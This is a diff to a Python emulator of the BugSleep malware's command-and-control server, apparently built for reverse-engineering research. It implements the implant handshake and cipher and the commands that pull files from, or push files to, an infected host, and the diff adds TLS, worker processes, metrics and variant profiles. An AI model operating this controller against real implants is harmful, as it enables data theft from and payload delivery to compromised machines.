@@ -7,9 +7,35 @@ import signal
 import socket
 import sys
 import time
-from typing import Optional
+from typing import BinaryIO, Optional
+
+from bugsleep_metrics import COMMAND_LABELS, MeteredSocket, Metrics, NullMetrics
+from bugsleep_net import (
+    RECV_TIMEOUT,
+    ConnectionReader,
+    RecvTimeoutError,
+    ShortReadError,
+    WorkerPool,
+)
+from bugsleep_profile import ProtocolProfile, cipher, cipher_buffer, load_profile
+from bugsleep_tls import (
+    DEFAULT_CERTFILE,
+    DEFAULT_KEYFILE,
+    TLS_AUTO,
+    TLS_OFF,
+    TLS_ON,
+    TlsTerminator,
+)
 
 VERBOSE_LEVEL: int = 0
+#! protocol constants of the analyzed variant, see bugsleep_profile
+PROFILE = ProtocolProfile({})
+#! TLS termination, enabled with --tls
+TLS: Optional[TlsTerminator] = None
+#! live metrics, enabled with --metrics-port
+METRICS = NullMetrics()
+#! deadline (seconds) for every fixed-size message, see bugsleep_net.recv_exact
+RECV_TIMEOUT_S: Optional[float] = RECV_TIMEOUT
 server_socket = None
 
 """ 
@@ -51,7 +77,8 @@ def hexdump(data: bytes, length: int = 16) -> None:
 
 def parse_message_length(header: bytes, increment: int) -> int:
     """
-    Parse and adjust the 1st 4 bytes and check the msg length.
+    Parse and adjust the 1st 4 bytes and check the msg length (32-bit little
+    endian).
 
     :param header: First 4 bytes received.
     :type header: bytes
@@ -60,8 +87,8 @@ def parse_message_length(header: bytes, increment: int) -> int:
     :return: message length.
     :rtype: int
     """
-    adjusted_header = bytes((b + increment) & 0xFF for b in header)
-    return adjusted_header[0]
+    adjusted_header = decrypt_bytes_received(header[: PROFILE.length_size], increment)
+    return PROFILE.parse_int(adjusted_header)
 
 
 def decrypt_bytes_received(data: bytes, increment: int) -> bytes:
@@ -75,7 +102,7 @@ def decrypt_bytes_received(data: bytes, increment: int) -> bytes:
     :return: Decrypted data.
     :rtype: bytes
     """
-    return bytes((b + increment) % 256 for b in data)
+    return cipher(data, increment)
 
 
 def encrypt_bytes_sent(data: bytes, increment: int) -> bytes:
@@ -93,10 +120,14 @@ def encrypt_bytes_sent(data: bytes, increment: int) -> bytes:
     :return: Encrypted data.
     :rtype: bytes
     """
-    return bytes((b + increment) % 256 for b in data)
+    return cipher(data, increment)
 
 
-def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
+def function_for_hex_0(
+    client_socket: socket.socket,
+    increment: int,
+    reader: Optional[ConnectionReader] = None,
+) -> None:
     """
     Handles 0x0 command sent by the C2 server (download file from remote host).
 
@@ -104,49 +135,52 @@ def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
     :type client_socket: socket.socket
     :param increment: Increment value for encryption/decryption.
     :type increment: int
+    :param reader: Exact-size reader of the connection, created if missing.
+    :type reader: Optional[ConnectionReader]
     """
     verbose_print(
         1, "[Function] Exec logic for hex 0x0 (Download file from remote host)"
     )
+    reader = reader or ConnectionReader(client_socket, RECV_TIMEOUT_S)
 
     #! Receive the 1st 4-byte message storing an integer value of 1
-    first_message = client_socket.recv(4)
+    first_message = reader.recv_exact(PROFILE.length_size)
     decrypted_first_message = decrypt_bytes_received(first_message, increment)
     verbose_print(2, "[Phase 4] First 4-byte message (hexdump and ASCII view):")
     if VERBOSE_LEVEL >= 3:
         hexdump(decrypted_first_message)
-    value_1 = int.from_bytes(decrypted_first_message, byteorder="little")
+    value_1 = PROFILE.parse_int(decrypted_first_message)
     verbose_print(2, f"\tReceived value: {value_1}")
 
     #! Receive the 2nd 4-byte message storing an integer value of 0
-    second_message = client_socket.recv(4)
+    second_message = reader.recv_exact(PROFILE.length_size)
     decrypted_second_message = decrypt_bytes_received(second_message, increment)
     verbose_print(2, "[Phase 4] Second 4-byte message (hexdump and ASCII view):")
     if VERBOSE_LEVEL >= 3:
         hexdump(decrypted_second_message)
-    value_2 = int.from_bytes(decrypted_second_message, byteorder="little")
+    value_2 = PROFILE.parse_int(decrypted_second_message)
     verbose_print(2, f"\tReceived value: {value_2}")
 
     #! Receive the 3rd message (8 bytes) containing the total number of 1KB blocks
-    third_message = client_socket.recv(8)
+    third_message = reader.recv_exact(PROFILE.block_count_size)
     decrypted_third_message = decrypt_bytes_received(third_message, increment)
     verbose_print(2, "[Phase 4] Third 8-byte message (hexdump and ASCII view):")
     if VERBOSE_LEVEL >= 3:
         hexdump(decrypted_third_message)
-    total_blocks = int.from_bytes(decrypted_third_message, byteorder="little")
+    total_blocks = PROFILE.parse_int(decrypted_third_message)
     verbose_print(2, f"\tTotal number of 1KB blocks: {total_blocks}")
 
     #! Receive the 4th message (4 bytes) containing the size of the last block
-    fourth_message = client_socket.recv(4)
+    fourth_message = reader.recv_exact(PROFILE.length_size)
     decrypted_fourth_message = decrypt_bytes_received(fourth_message, increment)
     verbose_print(2, "[Phase 4] Fourth 4-byte message (hexdump and ASCII view):")
     if VERBOSE_LEVEL >= 3:
         hexdump(decrypted_fourth_message)
-    last_block_size = int.from_bytes(decrypted_fourth_message, byteorder="little")
+    last_block_size = PROFILE.parse_int(decrypted_fourth_message)
     verbose_print(2, f"\tSize of the last block: {last_block_size} bytes")
 
     total_file_size = (
-        (total_blocks - 1) * 1024 + last_block_size
+        (total_blocks - 1) * PROFILE.block_size + last_block_size
         if total_blocks > 0
         else last_block_size
     )
@@ -154,14 +188,18 @@ def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
 
     verbose_print(1, f"[Phase 5] Receiving file content of {total_file_size} bytes...")
 
-    received_file_content = b""
+    received_file_content = bytearray()
     bytes_remaining = total_file_size
+    partial = False
 
     while bytes_remaining > 0:
         chunk_size = min(4096, bytes_remaining)
-        data = client_socket.recv(chunk_size)
-        if not data:
-            break
+        try:
+            data = reader.recv_exact(chunk_size)
+        except (ShortReadError, RecvTimeoutError) as err:
+            #! the implant went away or stalled mid-file, keep what arrived
+            data = reader.view[: err.received]
+            partial = True
         decrypted_data = decrypt_bytes_received(data, increment)
         received_file_content += decrypted_data
         bytes_remaining -= len(data)
@@ -171,6 +209,8 @@ def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
                 4, "[Receiving Data] Decrypted data (hexdump and ASCII view):"
             )
             hexdump(decrypted_data)
+        if partial:
+            break
 
     #! This is used to simply track the downloaded content
     #! and to do so, the SHA-1 hash of the received file is used
@@ -178,6 +218,13 @@ def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
     verbose_print(1, f"[Info] SHA-1 hash of the file content: {sha1_hash}")
 
     filename = f"{sha1_hash}.bin"
+    if partial:
+        filename = f"{sha1_hash}.partial.bin"
+        print(
+            f"[Warning] Connection closed or stalled after "
+            f"{len(received_file_content)}/{total_file_size} bytes, "
+            "saving the partial file"
+        )
     verbose_print(1, f"[Info] Saving file as: {filename}")
 
     with open(filename, "wb") as file:
@@ -186,11 +233,89 @@ def function_for_hex_0(client_socket: socket.socket, increment: int) -> None:
     verbose_print(1, f"[Phase 5] File content saved to {filename}")
 
 
+class BlockFramer(object):
+    """
+    Framing of the 0x1 (upload) blocks over a reusable buffer.
+
+    Blocks are laid out at a PROFILE.block_size stride in a preallocated
+    buffer of `batch_blocks` blocks: the block index is packed in place and
+    the file content is read straight behind it, then the batch is encrypted
+    and sent with a single sendall. The file is streamed, never loaded whole.
+
+    translate can not write in place, so the buffer is translated whole in
+    one copy (cipher_buffer) and the batch is sent from a view of that copy.
+    """
+
+    def __init__(self, increment: int, batch_blocks: int = 64) -> None:
+        self.increment = increment
+        self.batch_blocks = batch_blocks
+        self.stride = PROFILE.block_size
+        #! the padded last block can spill over its stride
+        self.buffer = bytearray(self.stride * batch_blocks + PROFILE.last_block_padding)
+        self.view = memoryview(self.buffer)
+
+    def send_file(
+        self,
+        client_socket: socket.socket,
+        file: BinaryIO,
+        full_blocks: int,
+        last_block_size: int,
+    ) -> int:
+        """
+        Send `full_blocks` full blocks and the padded last block read from `file`.
+
+        :param client_socket: Client socket.
+        :type client_socket: socket.socket
+        :param file: File to send, opened in binary mode.
+        :type file: BinaryIO
+        :param full_blocks: Number of full blocks.
+        :type full_blocks: int
+        :param last_block_size: File content in the last block, before padding.
+        :type last_block_size: int
+        :return: File content bytes sent, padding included.
+        :rtype: int
+        """
+        view = self.view
+        pack_index = PROFILE.block_index.pack_into
+        index_size = PROFILE.block_index_size
+        content_size = PROFILE.content_size
+        padding = PROFILE.last_block_padding
+        total_blocks = full_blocks + 1
+        bytes_sent = 0
+        block_number = 0
+
+        while block_number < total_blocks:
+            end = 0
+            for _ in range(min(self.batch_blocks, total_blocks - block_number)):
+                pack_index(self.buffer, end, block_number)
+                start = end + index_size
+                size = content_size if block_number < full_blocks else last_block_size
+                if file.readinto(view[start : start + size]) != size:
+                    raise ValueError("file shrunk while being sent")
+                end = start + size
+                if block_number == full_blocks:
+                    view[end : end + padding] = PROFILE.padding
+                    end += padding
+                bytes_sent += end - start
+                block_number += 1
+
+            encrypted = cipher_buffer(self.buffer, self.increment)
+            client_socket.sendall(memoryview(encrypted)[:end])
+
+            if VERBOSE_LEVEL >= 5:
+                verbose_print(
+                    5,
+                    f"Sent block {block_number}/{total_blocks}, bytes sent so far: {bytes_sent}",
+                )
+        return bytes_sent
+
+
 def function_for_hex_1(
     client_socket: socket.socket,
     increment: int,
     drop_location: str,
     file_path: str,
+    reader: Optional[ConnectionReader] = None,
 ) -> None:
     """
     Handles 0x1 command sent by the C2 server (send file from the C2 to the  remote host).
@@ -203,32 +328,31 @@ def function_for_hex_1(
     :type drop_location: str
     :param file_path: File path (on the C2 emulator host) of the file to be sent to the client.
     :type file_path: str
+    :param reader: Exact-size reader of the connection, created if missing.
+    :type reader: Optional[ConnectionReader]
     """
     verbose_print(1, "[Function] Exec logic for hex 0x1 (Upload file to remote host)")
+    reader = reader or ConnectionReader(client_socket, RECV_TIMEOUT_S)
 
     try:
         #! Receive the 1st 4-byte message storing an integer value of 1
-        first_message = client_socket.recv(4)
+        first_message = reader.recv_exact(PROFILE.length_size)
         decrypted_first_message = decrypt_bytes_received(first_message, increment)
-        _ = int.from_bytes(decrypted_first_message, byteorder="little")
+        _ = PROFILE.parse_int(decrypted_first_message)
         verbose_print(2, f"\tReceived value: {_}")
 
         #! Receive the 2nd 4-byte message storing another integer of value 1
-        second_message = client_socket.recv(4)
+        second_message = reader.recv_exact(PROFILE.length_size)
         decrypted_second_message = decrypt_bytes_received(second_message, increment)
-        _ = int.from_bytes(decrypted_second_message, byteorder="little")
+        _ = PROFILE.parse_int(decrypted_second_message)
         verbose_print(2, f"\tReceived value: {_}")
 
-        #! Processing local file to be sent to the infected host
-        with open(file_path, "rb") as file:
-            file_content = file.read()
-
         #! Key step, calculate the number of full blocks and the size of the last block
-        block_size = 1024  #! the total block size (header + content) as expected from BugSleep client
-        content_size = (
-            block_size - 4
-        )  #! file content part (1020 bytes), as 4 bytes are used to track the block number (chunk index)
-        file_size = len(file_content)
+        #! the total block size (header + content) as expected from BugSleep client, and the
+        #! file content part (1020 bytes), as 4 bytes are used to track the block number (chunk index)
+        content_size = PROFILE.content_size
+        #! Processing local file to be sent to the infected host (streamed, see BlockFramer)
+        file_size = os.path.getsize(file_path)
 
         full_blocks = file_size // content_size
         last_block_size = file_size % content_size
@@ -239,60 +363,29 @@ def function_for_hex_1(
         )
 
         #! send the number of full blocks + 1 for the last block
-        total_blocks_bytes = (full_blocks + 1).to_bytes(4, byteorder="little")
+        total_blocks_bytes = PROFILE.pack_int(full_blocks + 1)
         encrypted_total_blocks_bytes = encrypt_bytes_sent(total_blocks_bytes, increment)
         client_socket.sendall(encrypted_total_blocks_bytes)
 
         #! send the size of the last block, including padding
         #! to address what seems to be a bug on the client side
         padded_last_block_size = (
-            last_block_size + 4
+            last_block_size + PROFILE.last_block_padding
         )  # * 4 bytes padding, otherwise the last block will always be incomplete
-        last_block_size_bytes = padded_last_block_size.to_bytes(4, byteorder="little")
+        last_block_size_bytes = PROFILE.pack_int(padded_last_block_size)
         encrypted_last_block_size_bytes = encrypt_bytes_sent(
             last_block_size_bytes, increment
         )
         client_socket.sendall(encrypted_last_block_size_bytes)
 
-        # keep track of sent blocks
-        bytes_sent: int = 0
-
-        for block_number in range(full_blocks):
-            #! probably extra verbose in terms of variables
-            #! but easier to follow
-            block_header = block_number.to_bytes(4, byteorder="little")
-            start = block_number * content_size
-            end = start + content_size
-            block_content = file_content[start:end]
-            block_data = block_header + block_content
-            encrypted_block_data = encrypt_bytes_sent(block_data, increment)
-            client_socket.sendall(encrypted_block_data)
-            bytes_sent += len(block_content)
-
-            if VERBOSE_LEVEL >= 5:
-                verbose_print(
-                    5,
-                    f"Sent block {block_number + 1}/{full_blocks}, bytes sent so far: {bytes_sent}",
-                )
-
-        #! sending the last block with padding
-        #! to fit the size padded before
-        last_block_content = (
-            file_content[-last_block_size:] if last_block_size > 0 else b""
-        )
-        padded_last_block_content = last_block_content + b"\x00" * 4
-        last_block_header = full_blocks.to_bytes(4, byteorder="little")
-        last_block_data = last_block_header + padded_last_block_content
-        encrypted_last_block_data = encrypt_bytes_sent(last_block_data, increment)
-        client_socket.sendall(encrypted_last_block_data)
-        bytes_sent += len(padded_last_block_content)
+        #! blocks, then the last block with padding to fit the size padded before
+        with open(file_path, "rb") as file:
+            bytes_sent: int = BlockFramer(increment).send_file(
+                client_socket, file, full_blocks, last_block_size
+            )
 
-        verbose_print(
-            2, f"Sent last block (padded), bytes: {len(padded_last_block_content)}"
-        )
-        verbose_print(
-            1, f"File transmission completed. Total bytes sent: {file_size + 4}"
-        )
+        verbose_print(2, f"Sent last block (padded), bytes: {padded_last_block_size}")
+        verbose_print(1, f"File transmission completed. Total bytes sent: {bytes_sent}")
 
     except Exception as e:
         print(f"Error: {e}")
@@ -325,6 +418,15 @@ def handle_client_connection(
     :param file_path: File path (on the C2 emulator host) of the file to be sent to the client.
     :type file_path: Optional[str]
     """
+    if TLS is not None:
+        client_socket = TLS.accept(client_socket)
+        if client_socket is None:
+            return
+    if METRICS.enabled:
+        client_socket = MeteredSocket(
+            client_socket, METRICS, COMMAND_LABELS.get(hex_value, hex(hex_value))
+        )
+    handshake_start = time.perf_counter()
     try:
         if hex_value == 0x0:
             verbose_print(
@@ -347,16 +449,26 @@ def handle_client_connection(
         #! Phase 1: Receive the 1st message
         verbose_print(1, "\n[Phase 1] Receiving message from client...")
 
-        header = client_socket.recv(4)
-        if len(header) < 4:
+        reader = ConnectionReader(client_socket, RECV_TIMEOUT_S)
+        try:
+            header = reader.recv_exact(PROFILE.length_size)
+        except ShortReadError:
             print("  [Error] Incomplete header received.")
             return
 
         message_length = parse_message_length(header, increment)
         verbose_print(2, f"\t[Phase 1] Expected message length: {message_length} bytes")
+        if message_length > PROFILE.max_message_length:
+            #! unauthenticated, refuse it before allocating for it
+            print(
+                f"  [Error] Message length {message_length} above the "
+                f"{PROFILE.max_message_length} bytes limit."
+            )
+            return
 
-        data = client_socket.recv(message_length)
-        if len(data) < message_length:
+        try:
+            data = reader.recv_exact(message_length)
+        except ShortReadError:
             print("  [Error] Incomplete data received.")
             return
 
@@ -369,21 +481,25 @@ def handle_client_connection(
 
         #! Phase 2: Send 4 random bytes back to the client
         verbose_print(
-            1, "\n[Phase 2] Generating 4 random bytes to send to the client..."
+            1, "\n[Phase 2] Generating random bytes to send to the client..."
         )
-        random_bytes = os.urandom(4)
-        verbose_print(2, "[Phase 2] Sending 4 random bytes back to the client:")
+        random_bytes = os.urandom(PROFILE.random_size)
+        verbose_print(2, "[Phase 2] Sending random bytes back to the client:")
         if VERBOSE_LEVEL >= 3:
             hexdump(random_bytes)
         client_socket.sendall(random_bytes)
 
-        time.sleep(1)
+        #! the deliberate delay is not handshake latency
+        delay_start = time.perf_counter()
+        time.sleep(PROFILE.handshake_delay)
+        handshake_start += time.perf_counter() - delay_start
 
         #! Phase 3: Craft and send the new message
         verbose_print(1, "\n[Phase 3] Crafting and sending the new message...")
 
-        base_value = hex_value + 0x01
-        first_four_bytes = bytes([base_value + 0x03, 0x03, 0x03, 0x03])
+        first_four_bytes = PROFILE.initial_message(hex_value, increment)
+        METRICS.observe("handshake", time.perf_counter() - handshake_start)
+        METRICS.handshake()
 
         #
         # Handshake completed! start handling custom commands to be sent to BugSleep
@@ -402,7 +518,7 @@ def handle_client_connection(
             )
 
             size_bytes = encrypt_bytes_sent(
-                bytes([message_length]) + b"\x00\x00\x00", increment
+                PROFILE.pack_int(message_length), increment
             )
             adjusted_message = encrypt_bytes_sent(message, increment)
             final_message = first_four_bytes + size_bytes + adjusted_message
@@ -413,7 +529,8 @@ def handle_client_connection(
 
             client_socket.sendall(final_message)
 
-            function_for_hex_0(client_socket, increment)
+            with METRICS.phase("download"):
+                function_for_hex_0(client_socket, increment, reader)
 
         elif hex_value == 0x1:
             if drop_location is None or file_path is None:
@@ -431,7 +548,7 @@ def handle_client_connection(
             )
 
             size_bytes = encrypt_bytes_sent(
-                bytes([message_length]) + b"\x00\x00\x00", increment
+                PROFILE.pack_int(message_length), increment
             )
             adjusted_message = encrypt_bytes_sent(message, increment)
             final_message = first_four_bytes + size_bytes + adjusted_message
@@ -442,7 +559,10 @@ def handle_client_connection(
 
             client_socket.sendall(final_message)
 
-            function_for_hex_1(client_socket, increment, drop_location_norm, file_path)
+            with METRICS.phase("upload"):
+                function_for_hex_1(
+                    client_socket, increment, drop_location_norm, file_path, reader
+                )
 
     except Exception as e:
         print(f"[Error] An error occurred while handling client connection: {e}")
@@ -477,6 +597,8 @@ def start_server(
     remote_path: Optional[str] = None,
     drop_location: Optional[str] = None,
     file_path: Optional[str] = None,
+    workers: int = 1,
+    metrics_address: Optional[tuple] = None,
 ) -> None:
     """
     Starts the server and listens for incoming connections.
@@ -495,9 +617,41 @@ def start_server(
     :type drop_location: Optional[str]
     :param file_path: File path to the file to send to the client.
     :type file_path: Optional[str]
+    :param workers: Number of worker processes, see bugsleep_net.WorkerPool.
+    :type workers: int
+    :param metrics_address: (host, port) of the metrics endpoint, workers
+    use port + worker index.
+    :type metrics_address: Optional[tuple]
     """
     global server_socket
 
+    if workers > 1:
+
+        def handle(client_socket: socket.socket, address: tuple) -> None:
+            print(f"\n[Connection] Accepted connection from {address}")
+            with METRICS.session():
+                handle_client_connection(
+                    client_socket,
+                    increment,
+                    hex_value,
+                    remote_path,
+                    drop_location,
+                    file_path,
+                )
+
+        def serve_metrics(index: int) -> None:
+            if metrics_address is not None:
+                METRICS.serve(metrics_address[0], metrics_address[1] + index)
+
+        try:
+            WorkerPool(
+                host, port, workers, handle, "BugSleepC2Emulator", serve_metrics
+            ).run()
+        except OSError as e:
+            print(f"[BugSleepC2Emulator] Error starting workers on {host}:{port} - {e}")
+            sys.exit(1)
+        return
+
     #! register the signal handler (mange e.g. Ctrl+C) and clean-up stuff
     #! to avoid issues on port binding when running in Linux
     try:
@@ -516,19 +670,26 @@ def start_server(
 
     server_socket.listen(5)
     print(f"[BugSleepC2Emulator] Listening on {host}:{port}")
+    if metrics_address is not None:
+        METRICS.serve(*metrics_address)
+        print(
+            f"[BugSleepC2Emulator] Metrics on "
+            f"http://{metrics_address[0]}:{metrics_address[1]}/metrics"
+        )
 
     try:
         while True:
             client_socket, address = server_socket.accept()
             print(f"\n[Connection] Accepted connection from {address}")
-            handle_client_connection(
-                client_socket,
-                increment,
-                hex_value,
-                remote_path,
-                drop_location,
-                file_path,
-            )
+            with METRICS.session():
+                handle_client_connection(
+                    client_socket,
+                    increment,
+                    hex_value,
+                    remote_path,
+                    drop_location,
+                    file_path,
+                )
     except Exception as e:
         print(f"\n[BugSleepC2Emulator] Error: {e}")
     finally:
@@ -550,11 +711,62 @@ if __name__ == "__main__":
     parser.add_argument(
         "--port", type=int, default=443, help="Port to bind to. (default: %(default)s)"
     )
+    parser.add_argument(
+        "--tls",
+        choices=[TLS_OFF, TLS_ON, TLS_AUTO],
+        default=TLS_OFF,
+        help="Terminate TLS in-process: on (TLS only) or auto (sniff the first "
+        "bytes, TLS and raw BugSleep on the same port). (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--tls-cert",
+        type=str,
+        default=DEFAULT_CERTFILE,
+        help="TLS certificate (PEM), a self-signed pair is generated if both "
+        "files are missing. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--tls-key",
+        type=str,
+        default=DEFAULT_KEYFILE,
+        help="TLS private key (PEM). (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--profile",
+        type=str,
+        help="Protocol profile (JSON) of the BugSleep variant, see bugsleep_profile. "
+        "(default: the 2024.10 sample)",
+    )
     parser.add_argument(
         "--increment",
         type=int,
-        default=0x03,
-        help="Increment to add to bytes. (default: %(default)s). Use the value discoverd while RE BugSleep.",
+        help="Increment to add to bytes, overrides the profile one (default: 3). Use the value discoverd while RE BugSleep.",
+    )
+
+    parser.add_argument(
+        "--recv-timeout",
+        type=float,
+        default=RECV_TIMEOUT,
+        help="Deadline in seconds to receive a single message. (default: %(default)s)",
+    )
+
+    parser.add_argument(
+        "--workers",
+        type=int,
+        default=1,
+        help="Worker processes sharing the port (SO_REUSEPORT). (default: %(default)s)",
+    )
+
+    parser.add_argument(
+        "--metrics-port",
+        type=int,
+        help="Serve Prometheus metrics on this port (http://<metrics-host>:<port>/metrics).",
+    )
+    parser.add_argument(
+        "--metrics-host",
+        type=str,
+        default="127.0.0.1",
+        help="Metrics endpoint address. (default: %(default)s)",
     )
 
     parser.add_argument(
@@ -602,6 +814,22 @@ if __name__ == "__main__":
     args = parser.parse_args()
 
     VERBOSE_LEVEL = args.verbose
+    RECV_TIMEOUT_S = args.recv_timeout
+    if args.profile is not None:
+        try:
+            PROFILE = load_profile(args.profile)
+        except (OSError, ValueError) as err:
+            parser.error(f"{args.profile}: {err}")
+    if args.tls != TLS_OFF:
+        try:
+            TLS = TlsTerminator.from_files(
+                args.tls, args.tls_cert, args.tls_key, args.recv_timeout
+            )
+        except OSError as err:
+            parser.error(f"TLS setup failed: {err}")
+    if args.metrics_port is not None:
+        METRICS = Metrics()
+        METRICS.meter_cipher()
 
     if args.hex_value == 0 and not args.remote_path:
         parser.error("--remote-path is required when --hex-value is set to 0")
@@ -615,9 +843,15 @@ if __name__ == "__main__":
     start_server(
         args.host,
         args.port,
-        args.increment,
+        PROFILE.increment if args.increment is None else args.increment,
         args.hex_value,
         remote_path=args.remote_path,
         drop_location=args.drop_location,
         file_path=args.file,
+        workers=args.workers,
+        metrics_address=(
+            (args.metrics_host, args.metrics_port)
+            if args.metrics_port is not None
+            else None
+        ),
     )